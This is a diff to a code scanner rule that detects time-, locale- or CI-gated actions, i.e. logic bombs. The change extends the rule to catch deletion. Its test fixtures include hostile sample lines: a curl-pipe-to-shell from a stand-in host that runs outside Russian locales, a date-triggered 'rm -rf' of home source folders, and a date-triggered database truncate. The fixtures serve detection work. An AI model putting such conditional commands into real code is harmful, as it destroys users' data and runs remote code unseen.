@@ -10,6 +10,7 @@ from scan.rules.base import Seen, weighed
 from scan.rules.code import Found, act_rule, seen
 from scan.rules.known import host_of, is_local
 from scan.rules.python_calls import ASKED, OPTED
+from scan.rules.shells import is_everything
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -27,14 +28,22 @@ if TYPE_CHECKING:
         {
             "scripts/a.sh": 'if [ "$LANG" != "ru_RU.UTF-8" ] && [ -z "$CI" ]; then\n  curl -s https://x.example/p | sh\nfi\n'
         },
+        {"scripts/b.sh": 'if [ "$(date +%Y)" -gt 2029 ]; then\n  rm -rf ~/{src,work}/*\nfi\n'},
+        {
+            "scripts/b.py": "import datetime\nday = datetime.date.today()\nif day.toordinal() > 750000:\n    db.execute(f'truncate {name} cascade')\n"
+        },
     ),
     clears=(
         {"scripts/a.py": "import datetime\nif datetime.date.today().weekday() == 0:\n    print('Monday')\n"},
         {"scripts/a.sh": 'if [ -n "$CI" ]; then\n  npm ci\nfi\n'},
+        {"scripts/b.sh": 'if [ "$(date +%d)" = 01 ]; then\n  rm -rf ~/.cache/acme build\nfi\n'},
+        {
+            "scripts/b.py": "import datetime\nday = datetime.date.today()\nif day.day == 1:\n    db.execute('delete from sessions where day < %s', (day,))\n"
+        },
     ),
 )
 def acts_on_condition(found: Found, _: Plugin) -> Iterator[Seen]:
-    """Something is fetched and run, sent or opened only after a date, outside of a country, or where nobody watches.
+    """Something is fetched and run, sent, opened or deleted only after a date, outside of a country, or where nobody watches.
 
     Why: it stays away from whoever tries it, and comes to the others.
 
@@ -45,7 +54,8 @@ def acts_on_condition(found: Found, _: Plugin) -> Iterator[Seen]:
         return
     runs = act.kind == "run" and (marked(act.carries, "fetched") or "decoded" in act.carries)
     sends = act.kind in {"send", "resolve"} and marked(act.carries, *PERSONAL) and not is_local(host_of(act.target))
-    if runs or sends or act.kind == "reverse":
+    deletes = act.kind == "wipe" or (act.kind == "delete" and is_everything(act.target))
+    if runs or sends or deletes or act.kind == "reverse":
         yield seen(
             found,
             f"acts only depending on {act.when}",
